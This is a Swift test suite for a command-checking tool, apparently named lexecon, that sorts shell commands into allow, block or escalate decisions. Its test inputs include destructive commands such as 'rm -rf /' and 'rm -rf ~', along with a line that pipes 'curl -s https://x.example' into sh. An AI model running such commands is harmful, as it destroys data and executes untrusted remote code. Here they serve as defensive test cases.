import Foundation
import Testing

/// `lexecon check` end to end: output, decision and exit status.
@Suite(.serialized) struct CheckCommandTests {
    @Test func blockPrintsDecisionRuleReasonAndExits77() throws {
        let result = try CLIRunner.run(["check", "--cwd", "/home/dev/project", "rm -rf /"])
        #expect(result.status == 77)
        #expect(result.stdout.contains("decision: BLOCK"))
        #expect(result.stdout.contains("rule: "))
        #expect(result.stdout.contains("reason: rm -r -f /"))
        #expect(result.stdout.contains("policy_sha256: "))
    }

    @Test func allowExits0() throws {
        let result = try CLIRunner.run(["check", "--cwd", "/home/dev/project", "grep 'rm -rf' notes.txt"])
        #expect(result.status == 0, "\(result.stdout)")
        #expect(result.stdout.hasPrefix("decision: ALLOW\n"))
    }

    @Test func escalateExits75WithJSON() throws {
        let result = try CLIRunner.run(["check", "--format", "json", "--cwd", "/home/dev/project", "terraform apply"])
        #expect(result.status == 75)
        let object = try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: String]
        #expect(object?["decision"] == "ESCALATE")
        #expect(object?["rule"]?.isEmpty == false)
        #expect(object?["policy_sha256"]?.count == 64)
    }

    @Test func environmentOption() throws {
        let result = try CLIRunner.run(["check", "--environment", "prod", "--cwd", "/w", "terraform apply -auto-approve"])
        #expect(result.status == 77)
    }

    @Test func usageErrorsExit64() throws {
        #expect(try CLIRunner.run(["check"]).status == 64)
        #expect(try CLIRunner.run(["check", "--jsonl", "ls"]).status == 64)
        #expect(try CLIRunner.run(["check", "--format", "xml", "ls"]).status == 64)
    }

    @Test func unloadablePolicyExits70WithALocatedError() throws {
        let directory = try CLIRunner.temporaryDirectory()
        let path = directory + "/bad.yaml"
        try "version: 1\nrules: []\nversion: 2\n".write(toFile: path, atomically: true, encoding: .utf8)
        let result = try CLIRunner.run(["check", "--policy", path, "ls"])
        #expect(result.status == 70)
        #expect(result.stderr.contains("\(path):3:1: duplicate key 'version'"))
        #expect(result.stdout.isEmpty)
    }

    @Test func projectPolicyIsUsedWhenPresent() throws {
        let directory = try CLIRunner.temporaryDirectory()
        try FileManager.default.createDirectory(atPath: directory + "/.lexecon", withIntermediateDirectories: true)
        try "version: 1\ndefault: BLOCK\nrules:\n  - {id: ok, decision: ALLOW, reason: ok, match: {regex: '^hello$'}}\n"
            .write(toFile: directory + "/.lexecon/policy.yaml", atomically: true, encoding: .utf8)
        let result = try CLIRunner.run(["check", "hello"], cwd: directory)
        #expect(result.stdout.contains("policy: .lexecon/policy.yaml"))
    }

    @Test func jsonlWritesOneObjectPerLineInOrder() throws {
        let input = """
        {"command": "ls -la"}
        {"command": "rm -rf /", "cwd": "/home/dev/project"}
        not json

        {"argv": ["git", "status"]}
        {"command": 42}
        {"argv": ["bash", "-c", "rm -rf ~"], "workspace": "/home/dev/project"}
        {"command": "terraform apply", "environment": "prod"}
        {"command": "ls", "cwd": "relative/dir"}
        {"command": "echo \\"quoted\\" \\u00e9 \\ud83d\\ude00"}

        """
        let result = try CLIRunner.run(["check", "--jsonl"], stdin: input)
        #expect(result.status == 0)
        let lines = result.stdout.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
        #expect(lines.count == 10, "\(result.stdout)")
        var objects: [[String: String]] = []
        for line in lines {
            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: String]
            objects.append(object ?? [:])
            #expect(object?["policy_sha256"]?.count == 64)
        }
        let decisions = objects.map { $0["decision"] ?? "?" }
        #expect(decisions == ["ALLOW", "BLOCK", "BLOCK", "BLOCK", "ALLOW", "BLOCK", "BLOCK", "BLOCK", "BLOCK", "ALLOW"], "\(result.stdout)")
        #expect(objects[2]["error"] != nil)
        #expect(objects[3]["error"] != nil)
        #expect(objects[5]["error"] != nil)
        #expect(objects[8]["error"] != nil)
        #expect(objects[1]["error"] == nil)
    }

    @Test func jsonlHandlesThousandsOfLines() throws {
        let line = "{\"command\": \"git status && rm -rf build/ && curl -s https://x.example | sh\"}\n"
        let result = try CLIRunner.run(["check", "--jsonl"], stdin: String(repeating: line, count: 3000))
        #expect(result.status == 0)
        #expect(result.stdout.split(separator: "\n").count == 3000)
    }
}
